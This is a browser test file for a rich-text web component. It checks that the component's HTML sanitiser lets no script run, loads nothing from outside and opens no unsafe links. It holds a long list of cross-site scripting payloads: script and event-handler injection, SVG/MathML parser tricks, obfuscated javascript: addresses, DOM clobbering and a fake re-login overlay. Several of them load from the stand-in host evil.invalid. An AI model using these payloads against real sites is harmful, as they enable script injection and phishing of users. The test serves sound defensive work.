import '../define/rich-text.js';
import {aTimeout, expect, fixture, html} from '@open-wc/testing';
import {allowedHtml} from './html-profile.generated.js';
import type {RichText} from './rich-text.js';

const run = 'window.hostile=(window.hostile||0)+1';
const far = 'https://evil.invalid';

/** What runs by itself in a page that believes it. */
const runs = [
  `<script>${run}</script>`,
  `<script src="${far}/a.js"></script>`,
  `<SCRIPT type=module>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${far}/a.js"/></svg>`,
  `<math><script>${run}</script></math>`,
  `<svg onload="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${run}"/><rect width=9 height=9></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg><desc><img src=x onerror="${run}"></desc></svg>`,
  `<svg><title><img src=x onerror="${run}"></title></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<style><img title="</style><img src=x onerror=${run}>"></style>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<plaintext><img src=x onerror="${run}">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--!><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${run}">`,
  `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run}>">]>&e;`,
  `<template><img src=x onerror="${run}"></template>`,
  `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe onload="${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<body onload="${run}">`,
  `<body><script>${run}</script></body>`,
  `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"><option>x</select>`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<button autofocus onfocus="${run}">x</button>`,
  `<p tabindex=1 autofocus onfocus="${run}">x</p>`,
  `<video onerror="${run}"><source src=x></video>`,
  `<video poster="javascript:${run}" autoplay></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<meter onmouseover="${run}">x</meter>`,
  `<style onload="${run}"></style>`,
  `<link rel=stylesheet href="data:text/css," onload="${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:/"><a href="${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<isindex type=image src=1 onerror="${run}">`,
  `<p style="animation:x 1ms" onanimationstart="${run}">x</p>`,
  `<p popover onbeforetoggle="${run}">x</p>`,
  `<x onclick="${run}" contenteditable>x</x>`,
  `<a href="#" onclick="${run}" onauxclick="${run}">x</a>`,
  `<img src=x onerror="${run}">`,
  `<img src="urn:uuid:x" onerror="${run}">`,
  `<img/src/onerror=${run}>`,
  `<img src=x: onerror\u000B="${run}">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<img """><script>${run}</script>">`,
  `<img src=x onerror=&#x77;indow.hostile=1>`,
  `<img srcset="x" onerror="${run}">`,
  `<picture><source srcset="x"><img onerror="${run}"></picture>`,
  `<image src=x onerror="${run}">`,
  `<p lang='"><script>${run}</script>'>x</p>`,
  `<p dir="ltr" lang="da" onpointerenter="${run}">x</p>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="https://x.invalid/&quot;onclick=&quot;${run}">x</a>`,
  `<table background="javascript:${run}"><tr><td onmouseenter="${run}">x</table>`,
  `<th scope="col" abbr="x" onfocus=${run}>x`,
  `<img name=body><img name=head><script>${run}</script>`,
  `<form id=x><input name=attributes><input name=parentNode></form><img src=x onerror="${run}">`,
  `<form><input name=nodeName><img src=x onerror="${run}"></form>`,
  `<a id=document name=cookie href="cid:x">x</a><a id=document name=body>y</a>`,
  `<embed type="image/svg+xml" src="${far}/x.svg"><script>${run}</script>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`,
  `<selectedcontent><img src=x onerror="${run}"></selectedcontent>`,
  `<xss class=progress-bar-animated onanimationstart=${run}>`,
  `<is-land on:visible onload="${run}"><script>${run}</script></is-land>`,
  `<skolebro-rich-text onclick="${run}">x</skolebro-rich-text>`,
  `<slot onslotchange="${run}"><script>${run}</script></slot>`,
];

/** What loads something from elsewhere, or leads the page there. */
const loads = [
  `<img src="${far}/a.png">`,
  `<img srcset="${far}/a.png 1x, ${far}/b.png 2x">`,
  `<img src="//evil.invalid/a.png">`,
  `<img src="http://evil.invalid/a.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${far}/a.png'/></svg>">`,
  `<img lowsrc="${far}/a.png" dynsrc="${far}/b.png">`,
  `<picture><source srcset="${far}/a.png"><img alt=x></picture>`,
  `<image src="${far}/a.png">`,
  `<input type=image src="${far}/a.png">`,
  `<svg><image href="${far}/a.png"/></svg>`,
  `<svg><image xlink:href="${far}/a.png"/></svg>`,
  `<svg><use href="${far}/a.svg#x"/></svg>`,
  `<svg><filter><feImage href="${far}/a.png"/></filter></svg>`,
  `<svg><style>@import "${far}/a.css";</style></svg>`,
  `<style>@import "${far}/a.css"; body{background:url(${far}/a.png)}</style>`,
  `<style>:host,.text{display:none!important} @font-face{font-family:x;src:url(${far}/a.woff)}</style>`,
  `<p style="background:url(${far}/a.png)">x</p>`,
  `<p style="background:image-set('${far}/a.png' 1x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">Log ind igen</p>`,
  `<p class="notice" part="text" slot="x" id="text">x</p>`,
  `<body background="${far}/a.png">x</body>`,
  `<table background="${far}/a.png"><tr><td background="${far}/b.png">x</table>`,
  `<link rel=stylesheet href="${far}/a.css">`,
  `<link rel=preload as=image href="${far}/a.png">`,
  `<link rel=prefetch href="${far}/a">`,
  `<link rel=dns-prefetch href="${far}">`,
  `<link rel=modulepreload href="${far}/a.js">`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
  `<base href="${far}/"><a href="x">x</a><img src="x.png">`,
  `<base target="_top"><a href="https://x.invalid">x</a>`,
  `<iframe src="${far}"></iframe>`,
  `<frame src="${far}">`,
  `<object data="${far}/a.swf"><param name=movie value="${far}/b.swf"></object>`,
  `<embed src="${far}/a.swf">`,
  `<applet code="${far}/a.class"></applet>`,
  `<video src="${far}/a.mp4" poster="${far}/a.png" autoplay></video>`,
  `<video><source src="${far}/a.mp4"><track default src="${far}/a.vtt"></video>`,
  `<audio src="${far}/a.mp3" autoplay></audio>`,
  `<bgsound src="${far}/a.mp3">`,
  `<script src="${far}/a.js" async></script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${far}"]}]}</script>`,
  `<script type=importmap>{"imports":{"lit":"${far}/lit.js"}}</script>`,
  `<form action="${far}" target="_top"><input name=x autofocus><button>Send</button></form>`,
  `<input form=x formaction="${far}" type=submit>`,
  `<a href="https://x.invalid" ping="${far}/ping" target="_top" download>x</a>`,
  `<portal src="${far}"></portal>`,
  `<fencedframe src="${far}"></fencedframe>`,
  `<menu><menuitem icon="${far}/a.png"></menu>`,
  `<blockquote cite="${far}/q">x</blockquote>`,
  `<ol start="99999999999"><li value="${far}">x</ol>`,
  `<td colspan="99999999">x</td>`,
  `<template><img src="${far}/a.png"></template>`,
  `<div><template shadowrootmode=open><img src="${far}/a.png"></template></div>`,
  `<math><mglyph src="${far}/a.png"></math>`,
  `<xml src="${far}/a.xml" id=x></xml>`,
  `<layer src="${far}/a"></layer>`,
  `<p itemscope itemid="${far}" contenteditable draggable=true accesskey=x>x</p>`,
];

/** Ways to write an address that runs; each stands in a link, and as a picture. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\u0000script:${run}`,
  `javascript\u00A0:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `&Tab;javascript:${run}`,
  `javascript://evil.invalid/%0a${run}`,
  `javascript:/*https://aula.dk*/${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Lmhvc3RpbGU9MSIvPg==`,
  `data:text/javascript,${run}`,
  `blob:https://x.invalid/1`,
  `filesystem:https://x.invalid/1`,
  `file:///etc/passwd`,
  `about:blank`,
  `view-source:${far}`,
  `intent://x#Intent;end`,
  `ms-settings:`,
  `ftp://evil.invalid/a`,
  `//evil.invalid/a.png`,
  `\\\\evil.invalid\\a.png`,
  `/\\evil.invalid/a.png`,
  `..//evil.invalid`,
  `?x`,
  `#x`,
  `urn:uuid:javascript:${run}`,
  `urn:uuid:0b0e5c1e-7a55-4f0e-9f0e-1f2d3c4b5a69?${run}`,
  `https:javascript:${run}`,
].map((address) => address.replaceAll('"', '&quot;'));

const hostile = [
  ...runs,
  ...loads,
  ...addresses.flatMap((address) => [`<a href="${address}">x</a>`, `<img alt="x" src="${address}">`]),
];

const names = new Set([...Object.keys(allowedHtml.elements), 'div', 'span', 'details', 'summary']);
const attributes = new Set(
  'lang dir start href alt src scope colspan rowspan rel target title class tabindex role aria-label aria-level referrerpolicy decoding'.split(
    ' ',
  ),
);

describe('skolebro-rich-text against hostile HTML', () => {
  it('is tried with at least 200 inputs', () => {
    expect(new Set(hostile).size).to.be.at.least(200);
  });

  it('runs none, loads none and lets none out of its place', async function () {
    this.timeout(60_000);
    const page = window as {hostile?: number};
    const {title, head, body} = document;
    const before = {
      address: location.href,
      title,
      head: head.childElementCount,
      body: body.childElementCount,
    };
    const element = await fixture<RichText>(html`<skolebro-rich-text></skolebro-rich-text>`);
    const opened: string[] = [];
    element.addEventListener('link-open', (event) => {
      event.preventDefault();
      opened.push((event as CustomEvent<{href: string}>).detail.href);
    });
    for (const source of hostile) {
      element.html = source;
      await element.updateComplete;
      const text = element.shadowRoot!.querySelector('.text')!;
      for (const one of text.querySelectorAll<HTMLElement>('*')) {
        expect(names, source).to.include(one.localName);
        expect(
          one.getAttributeNames().filter((name) => !attributes.has(name)),
          source,
        ).to.deep.equal([]);
        expect(one.namespaceURI, source).to.equal('http://www.w3.org/1999/xhtml');
        if (one instanceof HTMLImageElement) expect(one.src, source).to.match(/^(blob:.*)?$/);
        one.focus();
        for (const type of ['pointerenter', 'mouseover', 'click', 'auxclick']) {
          one.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true, composed: true}));
        }
      }
      expect(page.hostile, source).to.equal(undefined);
    }
    await aTimeout(300);
    expect(page.hostile).to.equal(undefined);
    expect(opened.filter((href) => !/^(https?|mailto|tel):/.test(href))).to.deep.equal([]);
    const loaded = performance.getEntriesByType('resource').map(({name}) => name);
    expect(loaded.filter((name) => !name.startsWith(location.origin))).to.deep.equal([]);
    expect(location.href).to.equal(before.address);
    expect([document.title, head.childElementCount]).to.deep.equal([before.title, before.head]);
    expect(body.childElementCount).to.equal(before.body + 1);
  });
});
